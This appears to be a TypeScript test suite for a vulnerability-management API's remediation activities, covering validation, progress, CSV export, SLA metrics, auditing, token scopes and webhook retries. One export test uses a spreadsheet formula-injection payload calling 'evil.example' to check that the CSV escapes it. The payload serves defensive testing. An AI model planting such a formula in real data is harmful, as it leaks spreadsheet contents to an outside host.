import crypto from 'crypto';
import http from 'http';
import type { AddressInfo } from 'net';
import request from 'supertest';
import { ensureToken } from './auth';
import { createApp } from './app';
import { parseCsv } from '../ingest/knowledge/csv';
import { refreshScores } from '../engine/pipeline';
import type { RemediationWebhook } from '../engine/remediationWebhook';
import { apiClient, reportAgain, withVersion } from '../test-support/apiClient';
import { storeFingerprint, testContext } from '../test-support/context';
import { importSharedKnowledge, ingestSharedFleet } from '../test-support/fleet';
import { describeWithSharedData } from '../test-support/sharedData';

type Ctx = Awaited<ReturnType<typeof testContext>>;

const START = '2026-11-20T12:00:00.000Z';
const DAY = 86400_000;
const at = (delta: number, from = START) => new Date(Date.parse(from) + delta).toISOString();
const CHROME = 'va-_-google-_-chrome';
const CHROME_FIX = '124.0.6367.201';
const NOTE = 'Ünïcödé, "quotes"\nnew line — 日本語';

/** What a spreadsheet does with our CSV: drop the byte-order mark, read RFC 4180 records. */
function spreadsheet(body: Buffer): string[][] {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = body.toString('utf8');
  expect(text.endsWith('\r\n')).toBe(true);
  return parseCsv(text.slice(1)).map((r) => r.fields);
}

describeWithSharedData('remediation activities over a fleet built from ../shared/data', () => {
  let ctx: Ctx;
  let app: ReturnType<typeof createApp>;
  let api: ReturnType<typeof apiClient>;

  beforeEach(async () => {
    ctx = await testContext({ start: START });
    await importSharedKnowledge(ctx);
    await ingestSharedFleet(ctx);
    app = createApp(ctx);
    api = apiClient(app);
  });
  afterEach(async () => {
    await (app.locals.remediationWebhook as RemediationWebhook).idle();
    await ctx.db.close();
  });

  const requestChrome = (over: object = {}, user = 'alice@example.com') =>
    api.post(
      '/api/remediationTasks',
      { recommendationId: CHROME, priority: 'High', dueOn: at(14 * DAY), requesterNotes: NOTE, ...over },
      { status: 201, user }
    );

  it('creates an activity from a recommendation: Defender fields, target devices, requester, audit', async () => {
    const task = await requestChrome();
    expect(task).toMatchObject({
      title: `Update Google Chrome to ${CHROME_FIX} or later`,
      category: 'Software',
      type: 'Update',
      relatedComponent: 'Google Chrome',
      recommendationId: CHROME,
      productId: 'google-_-chrome',
      vendorId: 'google',
      nameId: 'chrome',
      recommendedVersion: CHROME_FIX,
      priority: 'High',
      dueOn: at(14 * DAY),
      createdOn: START,
      requesterId: 'alice@example.com',
      requesterEmail: 'alice@example.com',
      requesterNotes: NOTE,
      status: 'Active',
      overdue: false,
      targetDevices: 3,
      fixedDevices: 0,
      progressPercent: 0,
      rbacGroupNames: ['Finance', 'Servers', 'Workstations'],
      allDeviceGroups: true,
      completionMethod: null,
      deliveryStatus: 'NotConfigured',
    });
    expect(task.id).toMatch(/^[0-9a-f-]{36}$/);
    expect(await api.get(`/api/remediationTasks/${task.id}`)).toMatchObject({ id: task.id, targetDevices: 3 });
    // The inactive device (old-001) runs Chrome 100 but counts nowhere: it is not a target.
    const refs = (await api.get(`/api/remediationTasks/${task.id}/machineReferences`)).value;
    expect(refs.map((m: { id: string }) => m.id)).toEqual(['fin-001', 'ws-001', 'ws-002']);
    expect(refs[0]).toEqual({
      id: 'fin-001',
      computerDnsName: 'fin-001.corp.example',
      osPlatform: 'Windows11',
      rbacGroupName: 'Finance',
      status: 'Exposed',
      fixedOn: null,
    });
    const rec = await api.get(`/api/recommendations/${CHROME}`);
    expect(rec.activeRemediationTasks).toBe(1);
    const audit = (await api.get("/api/audit?$filter=entityType eq 'RemediationTask'")).value;
    expect(audit).toEqual([
      expect.objectContaining({
        time: START,
        actor: 'alice@example.com',
        action: 'RemediationTaskCreated',
        entityId: task.id,
      }),
    ]);

    // Selected groups: only their exposed devices are targets.
    const ws = await api.post(
      '/api/remediationTasks',
      {
        recommendationId: 'va-_-git-scm-_-git',
        priority: 'Low',
        dueOn: '2026-12-31',
        rbacGroupNames: ['Workstations'],
      },
      { status: 201 }
    );
    expect(ws).toMatchObject({
      targetDevices: 1,
      rbacGroupNames: ['Workstations'],
      allDeviceGroups: false,
      dueOn: '2026-12-31T00:00:00.000Z',
    });
    // Without X-TVM-User the requester is the token's name; the API is open here, so "anonymous".
    expect(ws.requesterId).toBe('anonymous');
  });

  it('rejects invalid requests with a 400 naming the field, a duplicate with 409, and stores nothing', async () => {
    await requestChrome();
    const before = await storeFingerprint(ctx);
    const bad = async (body: object, target: string, status = 400) => {
      const res = await request(app).post('/api/remediationTasks').send(body);
      expect({ body, status: res.status, target: res.body.error?.target }).toEqual({ body, status, target });
      expect(res.body.error.message).toMatch(status === 409 ? /already active/ : /Nothing was stored/);
    };
    const base = { recommendationId: 'va-_-git-scm-_-git', priority: 'High', dueOn: at(7 * DAY) };
    await bad({ ...base, recommendationId: 'va-_-nobody-_-nothing' }, 'recommendationId');
    await bad({ ...base, priority: 'Urgent' }, 'priority');
    await bad({ ...base, dueOn: at(-1) }, 'dueOn');
    await bad({ ...base, dueOn: START }, 'dueOn');
    await bad({ ...base, dueOn: 'next Friday' }, 'dueOn');
    await bad({ recommendationId: 'va-_-git-scm-_-git', priority: 'High' }, 'dueOn');
    await bad({ ...base, remediationType: 'AttentionRequired' }, 'dueOn');
    await bad({ ...base, recommendationId: 'va-_-apache-_-http_server', remediationType: 'Update' }, 'remediationType');
    await bad({ ...base, recommendationId: 'sca-_-scid-2011', remediationType: 'Uninstall' }, 'remediationType');
    await bad({ ...base, rbacGroupNames: ['Servers', 'Lab'] }, 'rbacGroupNames[1]');
    await bad({ ...base, rbacGroupNames: ['Finance'] }, 'rbacGroupNames');
    await bad({ ...base, owner: 'me' }, '(body)');
    await bad({ ...base, requesterNotes: 'x'.repeat(4001) }, 'requesterNotes');
    // Same recommendation, overlapping groups: 409; other groups are fine.
    await bad(
      { recommendationId: CHROME, priority: 'Low', dueOn: at(DAY), rbacGroupNames: ['Finance'] },
      'recommendationId',
      409
    );
    expect(await storeFingerprint(ctx)).toEqual(before);
    const invalidJson = await request(app)
      .post('/api/remediationTasks')
      .set('content-type', 'application/json')
      .send('{');
    expect(invalidJson.status).toBe(400);
  });

  it('progress follows device reports; when no target is exposed any more it completes by System confirmation', async () => {
    const task = await requestChrome();
    ctx.setNow(at(3600_000));
    await reportAgain(ctx, 'ws-001', at(3600_000), withVersion('Google Chrome', CHROME_FIX));
    let t = await api.get(`/api/remediationTasks/${task.id}`);
    expect(t).toMatchObject({
      status: 'Active',
      targetDevices: 3,
      fixedDevices: 1,
      exposedDevices: 2,
      progressPercent: 33.3,
    });
    const fixed = (await api.get(`/api/remediationTasks/${task.id}/machineReferences?status=Fixed`)).value;
    expect(fixed).toEqual([expect.objectContaining({ id: 'ws-001', status: 'Fixed', fixedOn: at(3600_000) })]);
    expect((await api.get(`/api/remediationTasks/${task.id}/machineReferences?status=All`)).value).toHaveLength(3);
    await api.get(`/api/remediationTasks/${task.id}/machineReferences?status=Nope`, 400);

    // A device that is fixed and then exposed again (a downgrade) counts as exposed again.
    ctx.setNow(at(2 * 3600_000));
    await reportAgain(ctx, 'ws-001', at(2 * 3600_000), withVersion('Google Chrome', '124.0.6367.91'));
    expect((await api.get(`/api/remediationTasks/${task.id}`)).fixedDevices).toBe(0);

    ctx.setNow(at(3 * 3600_000));
    for (const id of ['ws-001', 'ws-002']) {
      await reportAgain(ctx, id, at(3 * 3600_000), withVersion('Google Chrome', CHROME_FIX));
    }
    expect((await api.get(`/api/remediationTasks/${task.id}`)).fixedDevices).toBe(2);
    ctx.setNow(at(4 * 3600_000));
    await reportAgain(ctx, 'fin-001', at(4 * 3600_000), withVersion('Google Chrome', CHROME_FIX));
    t = await api.get(`/api/remediationTasks/${task.id}`);
    expect(t).toMatchObject({
      status: 'Completed',
      completionMethod: 'Automatic',
      completerId: 'System confirmation',
      completedOn: at(4 * 3600_000),
      statusLastModifiedOn: at(4 * 3600_000),
      fixedDevices: 3,
      progressPercent: 100,
      overdue: false,
    });
    const events = (await api.get(`/api/events?from=${START}&type=RemediationCompleted`)).value;
    expect(events).toEqual([
      expect.objectContaining({ type: 'RemediationCompleted', time: at(4 * 3600_000), originallyImpactedDevices: 3 }),
    ]);
    expect(events[0].detail).toMatchObject({ taskId: task.id, completionMethod: 'Automatic' });
    const audit = (await api.get(`/api/audit?$filter=entityId eq '${task.id}'`)).value;
    expect(audit.map((a: { action: string; actor: string }) => [a.action, a.actor])).toEqual([
      ['RemediationTaskCompleted', 'System confirmation'],
      ['RemediationTaskCreated', 'alice@example.com'],
    ]);
    // Nothing is exposed to Chrome any more: there is no recommendation left to request.
    const gone = await api.post(
      '/api/remediationTasks',
      { recommendationId: CHROME, priority: 'High', dueOn: at(DAY) },
      { status: 400 }
    );
    expect(gone.error.target).toBe('recommendationId');
  });

  it('configuration activities progress with compliance results', async () => {
    const task = await api.post(
      '/api/remediationTasks',
      { recommendationId: 'sca-_-scid-2011', priority: 'Medium', dueOn: at(30 * DAY) },
      { status: 201 }
    );
    expect(task).toMatchObject({
      type: 'ConfigurationChange',
      category: 'Security configuration',
      scid: 'scid-2011',
      productId: null,
      targetDevices: 2,
    });
    ctx.setNow(at(3600_000));
    await reportAgain(ctx, 'ws-001', at(3600_000), (s) => ({
      ...s,
      configurations: [
        { id: 'scid-2010', status: 'compliant' },
        { id: 'scid-2011', status: 'compliant' },
      ],
    }));
    expect(await api.get(`/api/remediationTasks/${task.id}`)).toMatchObject({ fixedDevices: 1, status: 'Active' });
  });

  it('manual completion and cancel, overdue exactly after the due instant, retention of finished activities', async () => {
    const due = at(DAY);
    const git = await api.post(
      '/api/remediationTasks',
      { recommendationId: 'va-_-git-scm-_-git', priority: 'Medium', dueOn: due },
      { status: 201 }
    );
    ctx.setNow(due);
    expect((await api.get(`/api/remediationTasks/${git.id}`)).overdue).toBe(false);
    const finishedGit = at(1, due);
    ctx.setNow(finishedGit);
    expect((await api.get(`/api/remediationTasks/${git.id}`)).overdue).toBe(true);
    expect(
      (await api.get('/api/remediationTasks?$filter=overdue eq true')).value.map((t: { id: string }) => t.id)
    ).toEqual([git.id]);

    const done = await api.post(
      `/api/remediationTasks/${git.id}/complete`,
      { comment: 'patched by hand' },
      { user: 'bob@example.com' }
    );
    expect(done).toMatchObject({
      status: 'Completed',
      completionMethod: 'Manual',
      completerId: 'bob@example.com',
      completerEmail: 'bob@example.com',
      completedOn: finishedGit,
      statusComment: 'patched by hand',
      overdue: false,
      fixedDevices: 0,
    });
    const again = await api.post(`/api/remediationTasks/${git.id}/complete`, undefined, { status: 409 });
    expect(again.error.target).toBe('id');
    await api.post(`/api/remediationTasks/${git.id}/cancel`, undefined, { status: 409 });
    await api.post('/api/remediationTasks/nope/cancel', undefined, { status: 404 });
    await api.post(`/api/remediationTasks/${git.id}/complete`, { unknown: 1 }, { status: 400 });

    ctx.setNow(at(DAY, finishedGit));
    const chrome = await requestChrome();
    const cancelled = await api.post(
      `/api/remediationTasks/${chrome.id}/cancel`,
      { comment: 'duplicate of INC-1' },
      { user: 'carol' }
    );
    expect(cancelled).toMatchObject({ status: 'Canceled', completerId: 'carol', completionMethod: null });
    // Manual completions are events too; cancellations are not.
    const events = (await api.get(`/api/events?from=${START}&type=RemediationCompleted`)).value;
    expect(events.map((e: { detail: { taskId: string } }) => e.detail.taskId)).toEqual([git.id]);

    // Kept 180 days after their last change (TVM_REMEDIATION_RETENTION_DAYS), then gone.
    const ids = async () => (await api.get('/api/remediationTasks')).value.map((t: { id: string }) => t.id).sort();
    const keptUntil = at(180 * DAY, finishedGit);
    ctx.setNow(keptUntil);
    expect(await ids()).toEqual([chrome.id, git.id].sort());
    ctx.setNow(at(1, keptUntil));
    await api.get(`/api/remediationTasks/${git.id}`, 404);
    expect(await ids()).toEqual([chrome.id]);
    const remediation = ctx.settings.remediation;
    ctx.settings = { ...ctx.settings, remediation: { ...remediation, retentionDays: 365 } };
    expect(await ids()).toEqual([chrome.id, git.id].sort());
    ctx.settings = { ...ctx.settings, remediation };
    await refreshScores(ctx.db, ctx.settings, at(1, keptUntil));
    expect(await ctx.db.get('SELECT id FROM remediation_task WHERE id = ?', [git.id])).toBeUndefined();
    expect(await ctx.db.get('SELECT task_id FROM remediation_task_device WHERE task_id = ?', [git.id])).toBeUndefined();
    expect(await ctx.db.get('SELECT id FROM remediation_task WHERE id = ?', [chrome.id])).toBeDefined();
    // The audit log keeps the history of a deleted activity.
    expect((await api.get(`/api/audit?$filter=entityId eq '${git.id}'`)).value).toHaveLength(2);
  });

  it('attention required: no due date, never overdue, not sent as a ticket', async () => {
    const t = await api.post(
      '/api/remediationTasks',
      { recommendationId: 'va-_-microsoft-_-office', priority: 'Low', remediationType: 'AttentionRequired' },
      { status: 201 }
    );
    expect(t).toMatchObject({
      type: 'AttentionRequired',
      title: 'Attention required: office',
      dueOn: null,
      deliveryStatus: 'NotApplicable',
      targetDevices: 1,
    });
    ctx.setNow(at(1000 * DAY));
    expect((await api.get(`/api/remediationTasks/${t.id}`)).overdue).toBe(false);
  });

  it('lists filter with OData and the device-group scope', async () => {
    const chrome = await requestChrome({ rbacGroupNames: ['Finance'] });
    const git = await api.post(
      '/api/remediationTasks',
      { recommendationId: 'va-_-git-scm-_-git', priority: 'Low', dueOn: at(60 * DAY), rbacGroupNames: ['Servers'] },
      { status: 201 }
    );
    const ids = async (url: string) => (await api.get(url)).value.map((t: { id: string }) => t.id);
    expect(await ids("/api/remediationTasks?$filter=priority eq 'High'")).toEqual([chrome.id]);
    expect(await ids('/api/remediationTasks?rbacGroupName=Servers')).toEqual([git.id]);
    expect(await ids("/api/remediationTasks?$filter=rbacGroupNames/any(g: g eq 'Finance')")).toEqual([chrome.id]);
    expect(await ids(`/api/remediationTasks?$filter=dueOn lt ${at(30 * DAY)}`)).toEqual([chrome.id]);
    const page = await api.get('/api/remediationTasks?$top=1');
    expect(page['@odata.nextLink']).toMatch(/\$skip=1/);
    await api.get("/api/remediationTasks?$filter=nope eq 'x'", 400);
  });

  it('exports activities and an activity’s devices to CSV, read back as a spreadsheet reads them', async () => {
    const task = await requestChrome();
    await api.post(
      '/api/remediationTasks',
      {
        recommendationId: 'va-_-git-scm-_-git',
        priority: 'Low',
        dueOn: at(30 * DAY),
        requesterNotes: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      },
      { status: 201, user: '+attacker' }
    );
    const res = await api.getText('/api/remediationTasks/export.csv');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="remediation-activities-2026-11-20.csv"');
    const rows = spreadsheet(res.body as Buffer);
    const header = rows[0];
    expect(header).toEqual([
      'Remediation activity',
      'Id',
      'Recommendation',
      'Related component',
      'Category',
      'Remediation type',
      'Priority',
      'Status',
      'Overdue',
      'Due on',
      'Created on',
      'Created by',
      'Notes',
      'Device groups',
      'Target devices',
      'Fixed devices',
      'Progress (%)',
      'Completed by',
      'Completed on',
      'Completion method',
      'Ticket status',
      'Ticket attempts',
      'Ticket last error',
    ]);
    expect(rows).toHaveLength(3);
    const byId = new Map(rows.slice(1).map((r) => [r[1], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    expect(byId.get(task.id)).toMatchObject({
      'Remediation activity': `Update Google Chrome to ${CHROME_FIX} or later`,
      Notes: NOTE,
      'Created by': 'alice@example.com',
      'Device groups': 'All device groups',
      'Target devices': '3',
      'Progress (%)': '0',
      Overdue: 'false',
      'Due on': at(14 * DAY),
    });
    const evil = [...byId.values()].find((r) => r.Recommendation === 'va-_-git-scm-_-git');
    expect(evil?.Notes).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(evil?.['Created by']).toBe("'+attacker");
    // The raw bytes: quoted fields with doubled quotes, CRLF between records, LF kept inside the note.
    const raw = (res.body as Buffer).toString('utf8');
    expect(raw).toContain('"Ünïcödé, ""quotes""\nnew line — 日本語"');
    expect(raw.split('\r\n')[0]).toBe(`\uFEFF${header.join(',')}`);

    const filtered = spreadsheet(
      (await api.getText("/api/remediationTasks/export.csv?$filter=priority eq 'High'")).body
    );
    expect(filtered.slice(1).map((r) => r[1])).toEqual([task.id]);

    const devices = await api.getText(`/api/remediationTasks/${task.id}/machineReferences/export.csv`);
    expect(devices.headers['content-disposition']).toBe(`attachment; filename="remediation-${task.id}-devices.csv"`);
    const deviceRows = spreadsheet(devices.body);
    expect(deviceRows[0]).toEqual([
      'Device id',
      'Device name',
      'OS platform',
      'Device group',
      'Status',
      'Fixed on',
      'Remediation activity',
      'Due on',
    ]);
    expect(deviceRows.slice(1).map((r) => [r[0], r[3], r[4]])).toEqual([
      ['fin-001', 'Finance', 'Exposed'],
      ['ws-001', 'Workstations', 'Exposed'],
      ['ws-002', 'Workstations', 'Exposed'],
    ]);
    expect((await request(app).get('/api/remediationTasks/nope/machineReferences/export.csv')).status).toBe(404);
  });

  it('SLA figures: past due, due soon, completions per week, mean time to remediate per severity', async () => {
    const chrome = await requestChrome({ dueOn: at(3 * DAY) });
    await api.post(
      '/api/remediationTasks',
      { recommendationId: 'va-_-git-scm-_-git', priority: 'Low', dueOn: at(DAY) },
      { status: 201 }
    );
    // Chrome is fixed everywhere after 2 days: its findings close, its activity completes.
    const fixedAt = at(2 * DAY);
    ctx.setNow(fixedAt);
    for (const id of ['ws-001', 'ws-002', 'fin-001']) {
      await reportAgain(ctx, id, fixedAt, withVersion('Google Chrome', CHROME_FIX));
    }
    const sla = await api.get('/api/remediation/sla?dueSoonDays=7');
    expect(sla.activities).toMatchObject({ active: 1, overdue: 1, dueSoon: 0, completed: 1, meanDaysToComplete: 2 });
    expect(sla.activities.byPriority).toEqual({
      High: { active: 0, overdue: 0, dueSoon: 0 },
      Medium: { active: 0, overdue: 0, dueSoon: 0 },
      Low: { active: 1, overdue: 1, dueSoon: 0 },
    });
    expect(sla.completedPerWeek).toHaveLength(12);
    expect(sla.completedPerWeek[11]).toEqual({ weekStart: '2026-11-16T00:00:00.000Z', completed: 1 });
    // Chrome's findings: ws-001 and fin-001 had CVE-2024-4671, ws-002 that one and CVE-2023-7024, all for 2 days.
    const severities = await ctx.db.all<{ severity: string; n: number }>(
      "SELECT c.severity, COUNT(*) AS n FROM finding f JOIN cve c ON c.id = f.cve_id WHERE f.status = 'fixed' GROUP BY c.severity"
    );
    expect(severities.reduce((n, s) => n + Number(s.n), 0)).toBe(4);
    for (const s of severities) {
      expect(sla.meanTimeToRemediate.bySeverity[s.severity]).toEqual({ fixed: Number(s.n), meanDays: 2 });
    }
    expect(sla.meanTimeToRemediate.overall).toEqual({ fixed: 4, meanDays: 2 });
    const scoped = await api.get('/api/remediation/sla?rbacGroupName=Finance');
    expect(scoped.meanTimeToRemediate.overall.fixed).toBe(1);
    expect(scoped.activities.active).toBe(1); // the git activity covers all groups
    expect((await api.get('/api/remediation/sla?dueSoonDays=0', 400)).error.target).toBe('dueSoonDays');
    expect(chrome.id).toBeDefined();
  });

  it('the audit log records device-value changes with who and when', async () => {
    ctx.setNow(at(60_000));
    const res = await request(app)
      .post('/api/machines/srv-001/setDeviceValue')
      .set('X-TVM-User', 'dave@example.com')
      .send({ DeviceValue: 'High' });
    expect(res.status).toBe(200);
    const audit = (await api.get("/api/audit?$filter=action eq 'DeviceValueChanged'")).value;
    expect(audit).toEqual([
      {
        id: expect.any(String),
        time: at(60_000),
        actor: 'dave@example.com',
        actorToken: null,
        action: 'DeviceValueChanged',
        entityType: 'Machine',
        entityId: 'srv-001',
        summary: 'Device value of srv-001.corp.example set to High (was Normal)',
        detail: { from: 'Normal', to: 'High' },
      },
    ]);
    await api.get("/api/audit?$filter=action eq 'Nope'", 400);
  });
});

describeWithSharedData('remediation writes need the admin scope; the actor falls back to the token name', () => {
  it('read tokens read, admin tokens write', async () => {
    const ctx = await testContext({ start: START, adminToken: 'admin-token-0123456789' });
    try {
      await ensureToken(ctx.db, 'read-token-0123456789', 'grafana-reader', ['read'], START);
      await importSharedKnowledge(ctx);
      await ingestSharedFleet(ctx);
      const app = createApp(ctx);
      const body = { recommendationId: CHROME, priority: 'High', dueOn: at(DAY) };
      expect((await request(app).post('/api/remediationTasks').send(body)).status).toBe(401);
      const reader = await request(app)
        .post('/api/remediationTasks')
        .set('Authorization', 'Bearer read-token-0123456789')
        .send(body);
      expect(reader.status).toBe(403);
      const created = await request(app)
        .post('/api/remediationTasks')
        .set('Authorization', 'Bearer admin-token-0123456789')
        .send(body);
      expect(created.status).toBe(201);
      expect(created.body.requesterId).toBe('admin (TVM_ADMIN_TOKEN)');
      const list = await request(app).get('/api/remediationTasks').set('Authorization', 'Bearer read-token-0123456789');
      expect(list.status).toBe(200);
      expect(list.body.value).toHaveLength(1);
      const audit = await request(app).get('/api/audit').set('Authorization', 'Bearer read-token-0123456789');
      expect(audit.body.value[0]).toMatchObject({
        actor: 'admin (TVM_ADMIN_TOKEN)',
        actorToken: 'admin (TVM_ADMIN_TOKEN)',
      });
      expect((await request(app).get('/api/exceptions')).status).toBe(401);
    } finally {
      await ctx.db.close();
    }
  });
});

/** A local ticketing endpoint: answers with the statuses given, in turn (the last one repeats). */
async function ticketServer(statuses: number[]) {
  const received: Array<{ headers: http.IncomingHttpHeaders; body: string; at: number }> = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ headers: req.headers, body: Buffer.concat(chunks).toString('utf8'), at: Date.now() });
      const status = statuses[Math.min(received.length - 1, statuses.length - 1)];
      res.writeHead(status, { 'content-type': 'text/plain' }).end(status >= 300 ? `nope ${status}` : 'ticket INC-42');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/hooks/tvm`, received, close: () => new Promise((r) => server.close(r)) };
}

describeWithSharedData('remediation webhook against a local endpoint', () => {
  let ctx: Ctx;

  beforeEach(async () => {
    ctx = await testContext({ start: START });
    await importSharedKnowledge(ctx);
    await ingestSharedFleet(ctx);
  });
  afterEach(async () => ctx.db.close());

  const configure = (url: string, over: object = {}) => {
    ctx.settings = {
      ...ctx.settings,
      remediation: {
        ...ctx.settings.remediation,
        webhookUrl: url,
        webhookSecret: 's3cret',
        webhookBackoffMs: 20,
        webhookMaxBackoffMs: 200,
        ...over,
      },
    };
    const app = createApp(ctx);
    return { app, webhook: app.locals.remediationWebhook as RemediationWebhook };
  };

  it('retries a failing endpoint with exponential backoff until it answers, signed, after the commit', async () => {
    const ticketing = await ticketServer([503, 502, 201]);
    try {
      const { app, webhook } = configure(ticketing.url, { maxDevices: 2 });
      const res = await request(app)
        .post('/api/remediationTasks')
        .set('X-TVM-User', 'alice@example.com')
        .send({ recommendationId: CHROME, priority: 'High', dueOn: at(DAY) });
      expect(res.status).toBe(201);
      expect(res.body.deliveryStatus).toBe('Pending');
      await webhook.idle();
      expect(ticketing.received).toHaveLength(3);
      const gaps = [
        ticketing.received[1].at - ticketing.received[0].at,
        ticketing.received[2].at - ticketing.received[1].at,
      ];
      expect(gaps[0]).toBeGreaterThanOrEqual(15);
      expect(gaps[1]).toBeGreaterThanOrEqual(35); // doubled
      const [first, , last] = ticketing.received;
      expect(last.body).toBe(first.body); // the same delivery every time
      expect(last.headers).toMatchObject({
        'content-type': 'application/json',
        'x-tvm-event': 'remediationTask.created',
        'x-tvm-delivery': res.body.id,
        'x-tvm-signature-256': `sha256=${crypto.createHmac('sha256', 's3cret').update(last.body).digest('hex')}`,
      });
      const payload = JSON.parse(last.body);
      expect(payload.task).toMatchObject({ id: res.body.id, requesterId: 'alice@example.com', targetDevices: 3 });
      // The device cap: 2 of 3 listed, and the body says so.
      expect(payload.devices.map((d: { id: string }) => d.id)).toEqual(['fin-001', 'ws-001']);
      expect(payload).toMatchObject({ devicesTotal: 3, devicesTruncated: true });
      const task = (await request(app).get(`/api/remediationTasks/${res.body.id}`)).body;
      expect(task).toMatchObject({
        deliveryStatus: 'Delivered',
        deliveryAttempts: 3,
        deliveryLastError: null,
        deliveredOn: START,
        deliveryDevicesSent: 2,
      });
    } finally {
      await ticketing.close();
    }
  });

  it('the activity exists when the hook arrives: delivery starts only after the creating transaction committed', async () => {
    let seenInStore: unknown = 'not called';
    const server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        const id = JSON.parse(Buffer.concat(chunks).toString('utf8')).task.id;
        ctx.db
          .get<{ id: string }>('SELECT id FROM remediation_task WHERE id = ?', [id])
          .then((row) => {
            seenInStore = row?.id;
            res.writeHead(204).end();
          })
          .catch(() => res.writeHead(500).end());
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { app, webhook } = configure(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
      const res = await request(app)
        .post('/api/remediationTasks')
        .send({ recommendationId: CHROME, priority: 'High', dueOn: at(DAY) });
      await webhook.idle();
      expect(seenInStore).toBe(res.body.id);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });

  it('records a permanent failure at once, and gives up after the last retry', async () => {
    const refusing = await ticketServer([400]);
    const down = await ticketServer([500]);
    try {
      let { app, webhook } = configure(refusing.url);
      const a = await request(app)
        .post('/api/remediationTasks')
        .send({ recommendationId: CHROME, priority: 'High', dueOn: at(DAY) });
      await webhook.idle();
      expect(refusing.received).toHaveLength(1);
      expect((await request(app).get(`/api/remediationTasks/${a.body.id}`)).body).toMatchObject({
        deliveryStatus: 'Failed',
        deliveryAttempts: 1,
        deliveryLastError: 'HTTP 400: nope 400',
        deliveredOn: null,
      });

      ({ app, webhook } = configure(down.url, { webhookMaxAttempts: 5 }));
      const b = await request(app)
        .post('/api/remediationTasks')
        .send({ recommendationId: 'va-_-git-scm-_-git', priority: 'High', dueOn: at(DAY) });
      await webhook.idle();
      expect(down.received).toHaveLength(5);
      expect((await request(app).get(`/api/remediationTasks/${b.body.id}`)).body).toMatchObject({
        deliveryStatus: 'Failed',
        deliveryAttempts: 5,
        deliveryLastError: 'HTTP 500: nope 500',
      });

      // Nobody listening: a network error, retried, then recorded.
      await down.close();
      ({ app, webhook } = configure(down.url, { webhookMaxAttempts: 2 }));
      const c = await request(app)
        .post('/api/remediationTasks')
        .send({ recommendationId: 'sca-_-scid-2011', priority: 'Low', dueOn: at(DAY) });
      await webhook.idle();
      const failed = (await request(app).get(`/api/remediationTasks/${c.body.id}`)).body;
      expect(failed).toMatchObject({ deliveryStatus: 'Failed', deliveryAttempts: 2 });
      expect(failed.deliveryLastError).toMatch(/ECONNREFUSED|fetch failed/);
    } finally {
      await refusing.close();
      await down.close();
    }
  });
});
